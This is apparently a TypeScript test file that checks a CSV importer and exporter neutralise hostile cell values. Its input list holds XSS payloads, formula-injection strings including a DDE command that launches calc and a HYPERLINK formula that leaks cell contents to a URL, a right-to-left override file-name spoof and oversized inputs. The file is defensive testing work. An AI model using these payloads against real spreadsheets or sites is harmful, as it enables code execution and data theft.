import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { placesOf } from '../../../../src/core/sessions/pack-places';
import type { SessionField } from '../../../../src/core/sessions/remark';
import { csvCell } from '../../../../src/formats/exports/csv';
import { readCsv, reportCsv } from '../../../fixtures/read-csv';
import { tinyPack } from '../../../fixtures/tiny-pack';

const CONTEXT = { sourceId: 'test', date: null, ...placesOf(tinyPack()) };
const FORMULA = /^\s*[=+\-@＝＋－＠\t\r]/;
const NUMBER = /^-?\d+(?:\.\d+)?$/;
// oxlint-disable-next-line no-control-regex
const UNSEEN = /[\u202a-\u202e\u2066-\u2069\u200e\u200f]|[\0-\x08\x0b\x0c\x0e-\x1f]/;

const ATTEMPTS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '\t=1+1',
  '\u202egpj.exe',
  '\u2066=1+1\u2069',
  '\0=1+1',
  `${'a'.repeat(500_000)}@${'b'.repeat(500_000)}`,
  `=${'.'.repeat(1_000_000)}x`,
];

const FIELDS: readonly SessionField[] = [
  ...([
    'provider',
    'venue',
    'name',
    'activity',
    'description',
    'level',
    'beginner',
    'price',
    'free',
  ] as const),
  ...(['day', 'start', 'end', 'audience', 'gender', 'age', 'accessibility', 'buddy', 'taster'] as const),
  ...(['acceptsReferrals', 'capacity', 'url', 'sourceDate'] as const),
];

/** A file with one attempt in one column, in a row that is a session but for it. */
async function attempt(field: SessionField, text: string) {
  const cells: Partial<Record<SessionField, string>> = { activity: 'Yoga', name: 'Morning', [field]: text };
  const mapping = {
    version: 1 as const,
    columns: Object.fromEntries([...FIELDS, 'postcode' as const].map((each) => [each, each])),
  };
  const headings = [...FIELDS, 'postcode' as const];
  const row = headings.map((each) => (each === 'postcode' ? 'ZZ1 1AA' : (cells[each] ?? '')));
  const bytes = new TextEncoder().encode(Papa.unparse([headings, row]));
  const { csv } = await reportCsv(bytes, CONTEXT, mapping);
  return { ...(await readCsv('x.csv', bytes, CONTEXT, mapping)), csv };
}

describe.each(ATTEMPTS.map((text) => [text.slice(0, 30), text]))('%j in any column', (_, text) => {
  const results = () => Promise.all(FIELDS.map((field) => attempt(field, text)));

  it('gives a session whose texts are plain, and not too long', async () => {
    for (const { sessions } of await results()) {
      expect(sessions).toHaveLength(1);
      for (const value of Object.values({ ...sessions[0]!, words: sessions[0]!.evidence.words })) {
        if (typeof value !== 'string') continue;
        expect(value).not.toMatch(UNSEEN);
        expect(value.length).toBeLessThanOrEqual(5000);
      }
      expect(sessions[0]!.url ?? 'https://').toMatch(/^https?:\/\//);
    }
  });

  it('reaches no cell of the report as a formula, and no note at length', async () => {
    for (const { csv, notes } of await results()) {
      const { data } = Papa.parse<string[]>(csv, { skipEmptyLines: true });
      expect(data).toHaveLength(2);
      for (const cell of data.flat()) {
        expect(FORMULA.test(cell) && !NUMBER.test(cell)).toBe(false);
        expect(cell).not.toMatch(UNSEEN);
      }
      for (const note of notes) expect(note.value?.length ?? 0).toBeLessThanOrEqual(500);
    }
  });

  it('reaches no export as a formula', async () => {
    for (const { sessions } of await results())
      for (const value of Object.values(sessions[0]!))
        if (typeof value === 'string') expect(String(csvCell(value))).not.toMatch(FORMULA);
  });
});
